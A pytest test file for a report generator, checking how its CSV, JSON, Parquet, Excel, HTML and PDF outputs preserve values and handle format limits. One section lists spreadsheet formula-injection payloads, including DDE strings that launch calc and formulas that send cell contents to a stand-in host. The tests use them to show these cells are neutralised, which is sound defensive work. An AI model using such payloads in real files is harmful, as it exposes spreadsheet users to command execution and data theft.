"""Every format, read again by a library that did not write it: values, types, order, what a format cannot hold."""

from __future__ import annotations

import csv
import datetime
import gzip
import io
import json
import zipfile
from collections.abc import Sequence
from decimal import Decimal
from pathlib import Path

import duckdb
import fastexcel
import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet
from pypdf import PdfReader

from reportgen_dagster.engine.limits import Limits
from reportgen_dagster.engine.outcome import Outcome
from reportgen_dagster.engine.report import make_report
from reportgen_dagster.engine.writers import xlsx
from reportgen_dagster.errors import BadDataError, RulesError
from reportgen_dagster.formats import Format
from reportgen_dagster.rules.reading.loading import load_ruleset

ALL: tuple[Format, ...] = ("csv", "json", "ndjson", "parquet", "xlsx")
RULES = """
title: Every type
input:
  schema:
    fields:
      - {name: amount, type: decimal, precision: 20, scale: 2}
      - {name: at, type: datetime}
      - {name: opens, type: time}
steps:
  - derive: {half: n / 4, big: n > 1, total: amount * 2}
"""
DATA = """n,name,amount,day,at,opens,code,note
1,"=1+1",10.50,2024-01-31,2024-01-31T12:30:00,08:15:00,007,"a ""q"", b"
2,<b>&amp;,-0.05,2024-02-29,1999-12-31T23:59:59,23:59:59,008,
,,,,,,,""
9007199254740993,Ünïcode 🎉,123456789012345678.25,1899-12-31,1850-01-01T00:00:00,00:00:00,x,"two
lines"
"""
ROWS = [
    {
        "n": 1, "name": "=1+1", "amount": Decimal("10.50"), "day": datetime.date(2024, 1, 31),
        "at": datetime.datetime(2024, 1, 31, 12, 30), "opens": datetime.time(8, 15), "code": "007", "note": 'a "q", b',
        "half": 0.25, "big": False, "total": Decimal("21.00"),
    },
    {
        "n": 2, "name": "<b>&amp;", "amount": Decimal("-0.05"), "day": datetime.date(2024, 2, 29),
        "at": datetime.datetime(1999, 12, 31, 23, 59, 59), "opens": datetime.time(23, 59, 59), "code": "008", "note": None,
        "half": 0.5, "big": True, "total": Decimal("-0.10"),
    },
    dict.fromkeys(("n", "name", "amount", "day", "at", "opens", "code", "note", "half", "big", "total")),
    {
        "n": 9007199254740993, "name": "Ünïcode 🎉", "amount": Decimal("123456789012345678.25"),
        "day": datetime.date(1899, 12, 31), "at": datetime.datetime(1850, 1, 1), "opens": datetime.time(0), "code": "x",
        "note": "two\nlines", "half": 2251799813685248.25, "big": True, "total": Decimal("246913578024691356.50"),
    },
]  # fmt: skip


def make(
    folder: Path, rules: str, data: str | bytes, formats: Sequence[Format] = ALL, **files: str
) -> tuple[Outcome, dict[Format, Path]]:
    source, work = folder / "in.csv", folder / "work"
    source.write_bytes(data.encode() if isinstance(data, str) else data)
    work.mkdir(exist_ok=True)
    outputs = {name: folder / f"report.{name}" for name in formats}
    for name, file in files.items():
        outputs[name] = folder / file  # type: ignore[index]  # a format's name
    outcome = make_report(
        load_ruleset(f"version: 1\n{rules}"),
        {"input": source},
        outputs=outputs,
        rejects=folder / "rejects.csv",
        work=work,
        limits=Limits(memory="300MB"),
        run_date=datetime.date(2024, 3, 1),
    )
    assert list(work.iterdir()) == []
    return outcome, outputs


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[Outcome, dict[Format, Path]]:
    return make(tmp_path_factory.mktemp("formats"), RULES, DATA)


def sheet(path: Path) -> Worksheet:
    found = openpyxl.load_workbook(path).active
    assert isinstance(found, Worksheet)
    return found


def test_parquet_holds_every_value_in_its_type(made: tuple[Outcome, dict[Format, Path]]) -> None:
    relation = duckdb.connect().read_parquet(str(made[1]["parquet"]))
    assert dict(zip(relation.columns, map(str, relation.types), strict=True)) == {
        "n": "BIGINT", "name": "VARCHAR", "amount": "DECIMAL(20,2)", "day": "DATE", "at": "TIMESTAMP", "opens": "TIME",
        "code": "VARCHAR", "note": "VARCHAR", "half": "DOUBLE", "big": "BOOLEAN", "total": relation.types[-1].__str__(),
    }  # fmt: skip
    assert [dict(zip(relation.columns, row, strict=True)) for row in relation.fetchall()] == [
        *ROWS[:2],
        ROWS[2] | {"note": None},
        ROWS[3],
    ]


@pytest.mark.parametrize("name", ["json", "ndjson"])
def test_json_holds_numbers_as_numbers_digit_by_digit(
    made: tuple[Outcome, dict[Format, Path]], name: Format
) -> None:
    text = made[1][name].read_text(encoding="utf-8")
    read = json.JSONDecoder(parse_float=Decimal, parse_int=Decimal).decode
    rows = read(text) if name == "json" else [read(line) for line in text.splitlines()]
    assert [row["amount"] for row in rows] == [row["amount"] for row in ROWS]
    assert [row["n"] for row in rows] == [row["n"] for row in ROWS]
    assert [row["half"] for row in rows] == [
        None if row["half"] is None else Decimal(repr(row["half"])) for row in ROWS
    ]
    assert [row["big"] for row in rows] == [False, True, None, True]
    assert [row["day"] for row in rows] == ["2024-01-31", "2024-02-29", None, "1899-12-31"]
    assert [row["name"] for row in rows] == ["=1+1", "<b>&amp;", None, "Ünïcode 🎉"]
    assert [row["code"] for row in rows] == ["007", "008", None, "x"]
    assert '"amount":10.50' in text  # a decimal keeps its scale


def test_csv_is_as_without_other_formats(made: tuple[Outcome, dict[Format, Path]], tmp_path: Path) -> None:
    _, alone = make(tmp_path, RULES, DATA, ("csv",))
    assert made[1]["csv"].read_bytes() == alone["csv"].read_bytes()


def test_excel_holds_types_that_it_has_and_texts_for_what_it_cannot_hold(
    made: tuple[Outcome, dict[Format, Path]],
) -> None:
    rows = list(sheet(made[1]["xlsx"]).iter_rows(min_row=2, values_only=True))
    assert rows[0] == (
        1, "=1+1", 10.5, datetime.datetime(2024, 1, 31), datetime.datetime(2024, 1, 31, 12, 30), datetime.time(8, 15),
        "007", 'a "q", b', 0.25, False, 21,
    )  # fmt: skip
    assert rows[2] == (None,) * 11
    assert rows[3][0] == "9007199254740993"  # more digits than Excel has
    assert rows[3][2] == "123456789012345678.25"
    assert rows[3][3] == "1899-12-31"  # before the first day that Excel counts right
    assert rows[3][4] == "1850-01-01T00:00:00"
    assert rows[3][1] == "Ünïcode 🎉"
    assert rows[3][7] == "two\nlines"


def test_excel_has_a_styled_header_that_stays_filters_widths_and_number_formats(
    made: tuple[Outcome, dict[Format, Path]],
) -> None:
    page = sheet(made[1]["xlsx"])
    assert page.title == "Every type"
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == "A1:K5"
    assert page["A1"].font.bold
    assert page["A1"].fill.start_color.rgb == "FF1F3864"
    assert [page.cell(2, column).number_format for column in (2, 3, 4, 5, 6)] == [
        "@", "0.00", "yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss", "hh:mm:ss",
    ]  # fmt: skip
    assert page.column_dimensions["C"].width > page.column_dimensions["J"].width > 8
    assert page.dimensions == "A1:K5"


def test_excel_is_read_alike_by_another_reader(made: tuple[Outcome, dict[Format, Path]]) -> None:
    frame = fastexcel.read_excel(made[1]["xlsx"]).load_sheet(0).to_polars()
    assert frame.height == 3 or frame.height == 4  # a row without a cell may be left out
    assert frame["half"].drop_nulls().to_list() == [0.25, 0.5, 2251799813685248.25]


def test_the_same_report_has_the_same_bytes(made: tuple[Outcome, dict[Format, Path]], tmp_path: Path) -> None:
    _, again = make(tmp_path, RULES, DATA)
    for name in ALL:
        assert again[name].read_bytes() == made[1][name].read_bytes(), name


@pytest.mark.parametrize("name", ALL)
def test_a_report_without_rows_is_a_whole_file(tmp_path: Path, name: Format) -> None:
    outcome, files = make(tmp_path, "steps: [{filter: n > 5}]", "n,x\n1,a\n", (name,))
    assert outcome.row_count == 0
    if name == "csv":
        assert files[name].read_text() == "n,x\n"
    elif name == "json":
        assert json.loads(files[name].read_text()) == []
    elif name == "ndjson":
        assert files[name].read_bytes() == b""
    elif name == "parquet":
        relation = duckdb.connect().read_parquet(str(files[name]))
        assert (relation.columns, relation.fetchall()) == (["n", "x"], [])
    else:
        assert list(sheet(files[name]).iter_rows(values_only=True)) == [("n", "x")]


def test_rows_of_many_blocks_and_pieces_are_in_order_in_every_format(tmp_path: Path) -> None:
    data = "n,x\n" + "".join(f"{n},{n % 7}\n" for n in range(300_000))
    rules = "steps: [{derive: {y: n * 0.5}}, {sort: [-n]}]"
    _, files = make(tmp_path, rules, data, ("csv", "ndjson", "parquet"))
    wanted = [(n, n % 7, n * 0.5) for n in range(299_999, -1, -1)]
    assert duckdb.connect().read_parquet(str(files["parquet"])).fetchall() == wanted
    lines = files["ndjson"].read_text().splitlines()
    assert [tuple(json.loads(line).values()) for line in lines] == wanted
    with files["csv"].open(newline="") as file:
        assert sum(1 for _ in csv.reader(file)) == 300_001


def test_more_rows_than_a_sheet_holds_go_to_further_sheets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx, "MAX_SHEET_ROWS", 101)
    _, files = make(tmp_path, "title: 'A/B: long'", "n\n" + "".join(f"{n}\n" for n in range(250)), ("xlsx",))
    book = openpyxl.load_workbook(files["xlsx"])
    assert book.sheetnames == ["A B  long", "A B  long 2", "A B  long 3"]
    rows = [[row[0] for row in page.iter_rows(values_only=True)] for page in book]
    assert [column[0] for column in rows] == ["n"] * 3
    assert [n for column in rows for n in column[1:]] == list(range(250))


def test_a_text_longer_than_a_cell_of_excel_is_cut_and_told(tmp_path: Path) -> None:
    outcome, files = make(tmp_path, "", f"a\n{'x' * 40_000}\nshort\n", ("xlsx", "csv"))
    assert outcome.warnings == ["xlsx: 1 text is longer than the 32,767 characters of a cell, and cut"]
    cell = sheet(files["xlsx"])["A2"].value
    assert isinstance(cell, str)
    assert (len(cell), cell[-1]) == (32_767, "…")
    assert files["csv"].stat().st_size > 40_000


def test_characters_that_xml_does_not_have_stay_in_excel(tmp_path: Path) -> None:
    _, files = make(tmp_path, "", 'a,b\n"x\x01y","_x0041_ &<>"\n', ("xlsx",))
    from openpyxl.utils.escape import unescape

    row = next(sheet(files["xlsx"]).iter_rows(min_row=2, values_only=True))
    assert [unescape(str(cell)) for cell in row] == ["x\x01y", "_x0041_ &<>"]


# how CSV is written


DIALECT_DATA = 'n,t,when\n1.5,"a;b",2024-01-31\n-2,,2024-02-01\n"",=x,\n'
DIALECT_RULES = """
input: {schema: {fields: [{name: n, type: number}, {name: when, type: date}]}}
steps: [{derive: {half: n / 2}}]
output:
  dialect: {%s}
"""


@pytest.mark.parametrize(
    ("dialect", "wanted"),
    [
        ('delimiter: ";"', 'n;t;when;half\n1.5;"a;b";2024-01-31;0.75\n-2;;2024-02-01;-1\n;=x;;\n'),
        (
            'delimiter: ";", decimalChar: ","',
            'n;t;when;half\n1,5;"a;b";2024-01-31;0,75\n-2;;2024-02-01;-1\n;=x;;\n',
        ),
        (
            'lineTerminator: "\\r\\n", header: false',
            "1.5,a;b,2024-01-31,0.75\r\n-2,,2024-02-01,-1\r\n,=x,,\r\n",
        ),
        (
            "quoting: all",
            '"n","t","when","half"\n"1.5","a;b","2024-01-31","0.75"\n"-2","","2024-02-01","-1"\n"","=x","",""\n',
        ),
        (
            "quoting: texts",
            '"n","t","when","half"\n1.5,"a;b",2024-01-31,0.75\n-2,,2024-02-01,-1\n,"=x",,\n',
        ),
    ],
)
def test_csv_is_written_as_the_dialect_says(tmp_path: Path, dialect: str, wanted: str) -> None:
    _, files = make(tmp_path, DIALECT_RULES % dialect, DIALECT_DATA, ("csv",))
    assert files["csv"].read_bytes().decode() == wanted


@pytest.mark.parametrize(
    ("encoding", "head"), [("cp1252", b""), ("utf-8-sig", b"\xef\xbb\xbf"), ("utf-16", b"\xff\xfe")]
)
def test_csv_is_written_in_the_encoding(tmp_path: Path, encoding: str, head: bytes) -> None:
    data = "name,n\n" + "".join(f"Grün {n},{n}\n" for n in range(40_000))
    _, files = make(tmp_path, f"output: {{dialect: {{encoding: {encoding}}}}}", data, ("csv",))
    raw = files["csv"].read_bytes()
    assert raw.startswith(head)
    assert raw.decode(encoding) == data


def test_a_character_that_the_encoding_has_not_fails_the_run_and_is_named(tmp_path: Path) -> None:
    rules = "output: {dialect: {encoding: cp1252}}"
    with pytest.raises(BadDataError, match=r"'→' \(U\+2192\) is not in cp1252.*`a → b,2`"):
        make(tmp_path, rules, "name,n\nplain,1\na → b,2\n", ("csv",))
    assert not (tmp_path / "report.csv").exists()


def test_files_are_packed_where_rules_or_names_say_so(tmp_path: Path) -> None:
    data = "a,b\n1,x\n2,y\n"
    _, files = make(tmp_path, "", data, (), csv="r.csv.gz", ndjson="r.ndjson.gz")
    assert gzip.decompress(files["csv"].read_bytes()).decode() == data
    assert gzip.decompress(files["ndjson"].read_bytes()).decode() == '{"a":1,"b":"x"}\n{"a":2,"b":"y"}\n'
    _, files = make(tmp_path, "output: {dialect: {compression: gzip}}", data, ("csv",))
    assert gzip.decompress(files["csv"].read_bytes()).decode() == data


# cells that a spreadsheet would run


STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\ufeff=",
    "\u200b+",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\t",
    "\r",
]
BODIES = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.invalid/?"&A1,"x")', "SUM(A1:A9)*1", "WEBSERVICE(\"http://x.invalid\")",
    "IMPORTXML(CONCAT(\"http://x.invalid\"),\"//a\")", "2+5+cmd|'/C notepad'!A0", "a", "DDE(\"cmd\";\"/C calc\")", "A1", "'", '"',
]  # fmt: skip
PAYLOADS = [start + body for start in STARTS for body in BODIES]
NUMBERS = ["-5", "+5", "-1.5", "-1,5", "+.5", "-1e9", "-3%", "-0"]


def quoted(cells: Sequence[str]) -> str:
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows([cell, "x"] for cell in cells)
    return out.getvalue()


def test_guarded_csv_has_no_live_cell_and_numbers_stay(tmp_path: Path) -> None:
    assert len(PAYLOADS) >= 200
    data = "=name,b\n" + quoted([*PAYLOADS, *NUMBERS, "plain", "a=b"])
    _, files = make(tmp_path, "output: {guard: spreadsheet}", data, ("csv",))
    with files["csv"].open(newline="", encoding="utf-8") as file:
        rows = [row[0] for row in csv.reader(file)]
    assert rows[0] == "'=name"
    assert rows[1 : len(PAYLOADS) + 1] == [f"'{cell}" for cell in PAYLOADS]
    assert rows[len(PAYLOADS) + 1 :] == [*NUMBERS, "plain", "a=b"]


def test_csv_for_machines_stays_as_it_is(tmp_path: Path) -> None:
    _, files = make(tmp_path, "", "a,b\n" + quoted(PAYLOADS), ("csv",))
    with files["csv"].open(newline="", encoding="utf-8") as file:
        assert [row[0] for row in csv.reader(file)][1:] == PAYLOADS


def test_in_excel_every_payload_is_a_text(tmp_path: Path) -> None:
    data = "=HYPERLINK(),http://x.invalid\n" + quoted([*PAYLOADS, "http://x.invalid/a", "mailto:a@x.invalid"])
    _, files = make(tmp_path, "", data, ("xlsx",))
    page = sheet(files["xlsx"])
    cells = [cell for row in page.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    assert all(cell.hyperlink is None for cell in cells)
    with zipfile.ZipFile(files["xlsx"]) as book:
        xml = b"".join(book.read(name) for name in book.namelist() if "sheet" in name)
    assert b"<f>" not in xml
    assert b"hyperlink" not in xml.lower().replace(b"hyperlink(", b"")


# with a presentation


SHOWN = """
title: Trades
presentation:
  title: Trades by desk
  formats: {amount: "#,##0.00", day: "dd.mm.yyyy"}
  totals: {amount: sum, n: average, day: maximum, desk: count}
  charts: [{kind: bar, x: desk, y: amount}]
input: {schema: {fields: [{name: amount, type: decimal, precision: 12, scale: 2}]}}
output: {formats: [csv, html]}
"""
SHOWN_DATA = "desk,n,amount,day\nFX,1,1000.50,2024-01-31\n=cmd(),2,-0.25,2024-02-29\n,,,\n"


def test_excel_has_number_formats_and_totals_that_follow_the_filter(tmp_path: Path) -> None:
    _, files = make(tmp_path, SHOWN, SHOWN_DATA, ("xlsx",))
    page = sheet(files["xlsx"])
    assert page.title == "Trades by desk"
    assert [page.cell(2, column).number_format for column in (3, 4)] == ["#,##0.00", "dd.mm.yyyy"]
    assert [page.cell(5, column).value for column in (1, 2, 3)] == [
        "=SUBTOTAL(103,A2:A4)",
        "=SUBTOTAL(101,B2:B4)",
        "=SUBTOTAL(109,C2:C4)",
    ]
    assert page.auto_filter.ref == "A1:D4"
    assert page.cell(5, 4).value == datetime.datetime(2024, 2, 29)
    kept = openpyxl.load_workbook(files["xlsx"], data_only=True).active
    assert isinstance(kept, Worksheet)
    assert [kept.cell(5, column).value for column in (1, 2, 3)] == [2, 1.5, 1000.25]


def test_totals_are_exact_where_they_need_more_digits_and_days_that_excel_has_not_are_texts(
    tmp_path: Path,
) -> None:
    rules = """
presentation: {totals: {n: sum, day: minimum}}
input: {schema: {fields: [{name: n, type: decimal, precision: 38, scale: 0}, {name: day, type: date}]}}
"""
    data = "n,day\n" + "9" * 38 + ",1850-01-01\n" + "9" * 38 + ",2024-01-01\n"
    _, files = make(tmp_path, rules, data, ("xlsx",))
    kept = openpyxl.load_workbook(files["xlsx"], data_only=True).active
    assert isinstance(kept, Worksheet)
    assert kept.cell(4, 1).value == float(2 * int("9" * 38))
    assert kept.cell(4, 2).value == "1850-01-01"


def test_totals_of_several_sheets_are_of_all_their_rows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx, "MAX_SHEET_ROWS", 11)
    rules = "presentation: {totals: [n]}"
    _, files = make(tmp_path, rules, "n\n" + "".join(f"{n}\n" for n in range(20)), ("xlsx",))
    book = openpyxl.load_workbook(files["xlsx"])
    rows = [[row[0] for row in page.iter_rows(values_only=True)] for page in book]
    assert [len(column) for column in rows] == [10, 10, 4]
    assert rows[-1] == ["n", 18, 19, 190]


def test_pages_are_made_of_the_same_pass(tmp_path: Path) -> None:
    outcome, files = make(tmp_path, SHOWN, SHOWN_DATA + "FX,3,x,2024-01-01\n", ("csv", "html", "pdf"))
    assert outcome.reject_count == 1
    assert files["csv"].read_text() == SHOWN_DATA
    html = files["html"].read_text(encoding="utf-8")
    text = "".join(page.extract_text() for page in PdfReader(files["pdf"]).pages)
    for words in ("Trades by desk", "1,000.50", "29.02.2024", "=cmd()", "1,000.25", "in.csv"):
        assert words in html, words
        assert words in text, words
    assert "<script" not in html


def test_pages_that_do_not_fit_the_rows_fail_the_run_and_leave_no_file(tmp_path: Path) -> None:
    rules = """
steps: [{pivot: {by: [k], column: q, values: sum(v)}}]
presentation: {totals: [Q9]}
"""
    with pytest.raises((BadDataError, RulesError), match="Q9"):
        make(tmp_path, rules, "k,q,v\na,Q1,1\na,Q2,2\n", ("csv", "html"))
    assert not (tmp_path / "report.csv").exists()
    assert not (tmp_path / "report.html").exists()
